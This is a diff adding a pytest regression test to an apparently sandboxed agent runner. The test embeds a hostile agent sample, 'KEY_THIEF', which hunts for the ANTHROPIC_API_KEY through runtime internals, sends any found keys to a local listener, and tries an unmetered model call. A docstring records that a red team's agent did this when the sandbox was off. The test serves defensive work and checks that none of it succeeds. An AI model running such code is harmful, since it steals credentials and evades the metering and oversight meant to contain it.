@@ -23,7 +23,7 @@ from pathlib import Path
 
 import escapes
 import pytest
-from agents import write_agent, write_raw
+from agents import agent_source, write_agent, write_raw
 from conftest import IMPORT_ROOT, TEST_KEY, OpenDoor
 from fakeapi import FakeMessagesAPI, Reply
 
@@ -446,3 +446,62 @@ def test_a_legitimate_agent_reaches_the_api(
     [request] = fake_api.messages()
     assert request.prompt == "Summarise: the escape corpus"
     assert request.api_key == TEST_KEY
+
+
+# ---- the key, with no walls at all (issue 23) -------------------------------------------------
+
+KEY_THIEF = """
+import urllib.request
+
+def run(task, previous_outputs):
+    port = json.loads(task)["port"]
+    found = []
+    try:
+        found.append(api_key())
+    except Exception:
+        pass
+    try:
+        found.append(_setting("ANTHROPIC_API_KEY"))
+    except Exception:
+        pass
+    if found:
+        urllib.request.urlopen(f"http://127.0.0.1:{port}/", data=" ".join(found).encode())
+    try:
+        body = {"max_tokens": 5, "messages": [{"role": "user", "content": "unmetered"}]}
+        _post({"model": "claude-sonnet-5-5", **body})
+        unmetered = "made"
+    except Exception as error:
+        unmetered = type(error).__name__
+    return f"keys {len(found)}, unmetered call {unmetered}, " + call_llm("a metered call")
+"""
+"""What the red team's agent did under SANDBOX=off, in code the guard used to accept: call the
+runtime's own key lookup, which found the home's .env up the tree from the agent's file, send the
+key out, and call the model through the runtime's private request function, unmetered."""
+
+
+def test_without_walls_an_agent_finds_no_key_and_no_road_around_the_broker(
+    fake_api: FakeMessagesAPI,
+    door: OpenDoor,
+    isolated_home: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setenv("SANDBOX", "off")
+    (isolated_home / ".env").write_text(
+        f"ANTHROPIC_API_KEY={TEST_KEY}\nANTHROPIC_BASE_URL={fake_api.base_url}\n"
+    )
+    fake_api.queue(Reply("the broker's answer"))
+    source = agent_source(KEY_THIEF, name="key_thief")
+    complaints = generator.check_assembled(source)
+    assert any("_setting is none of this code's own names" in c for c in complaints)
+    assert any("_post is none of this code's own names" in c for c in complaints)
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        port = listener.getsockname()[1]
+        path = write_agent(KEY_THIEF, name="key_thief")  # run anyway, as if the guard had not
+        result = executor.execute_agent(path, json.dumps({"port": port}), {}, door=door())
+        listener.settimeout(1)  # a completed handshake would be queued by now, accepted or not
+        with pytest.raises(TimeoutError):
+            listener.accept()
+    assert result.ok, result.error
+    assert result.output == "keys 0, unmetered call NameError, the broker's answer"
+    assert len(fake_api.messages()) == door.ledger.totals().calls == 1, "every call billed"
+    assert TEST_KEY not in result.output + result.error
